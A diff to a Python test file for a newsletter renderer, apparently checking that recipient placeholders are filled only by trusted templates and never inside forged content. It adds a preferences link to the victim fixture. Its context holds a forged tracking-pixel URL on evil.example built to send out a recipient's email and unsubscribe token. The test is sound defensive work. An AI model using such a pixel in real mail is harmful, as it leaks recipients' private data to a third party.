@@ -49,7 +49,10 @@ WORKING_DATA = (
 FORGED_SUBJECT = "For %%email%%: the week"
 FORGED_IMAGE = "https://evil.example/p.gif?e=%%email%%&u=%%unsubscribe_url%%"
 VICTIM = Recipient(
-    email="victim@example.net", name="Vic Tim", unsubscribe_url="https://news.example.org/unsubscribe/victim-token"
+    email="victim@example.net",
+    name="Vic Tim",
+    unsubscribe_url="https://news.example.org/unsubscribe/victim-token",
+    preferences_url="https://news.example.org/preferences/victim-token",
 )
 
 
@@ -172,6 +175,7 @@ def assert_only_templates_personalize(subject: str, html: str, text: str, recipi
     hrefs = [(a.get("href", ""), a.text_content()) for a in doc.iter("a")]
     assert [h for h in hrefs if recipient.unsubscribe_url in h[0]] == [(recipient.unsubscribe_url, "Unsubscribe")]
     assert html.count(recipient.unsubscribe_url) == 1
+    assert [h for h in hrefs if h[0] == recipient.preferences_url] == [(recipient.preferences_url, "Preferences")]
     assert FORGED_IMAGE in [img.get("src") for img in doc.iter("img")]
     assert "Write to %%email%% or %%unsubscribe_url%%." in shown and "Reply to %%email%% (%%name%%)." in shown
     assert text.count(recipient.email) == 1 and f"Sent to {recipient.email}" in text
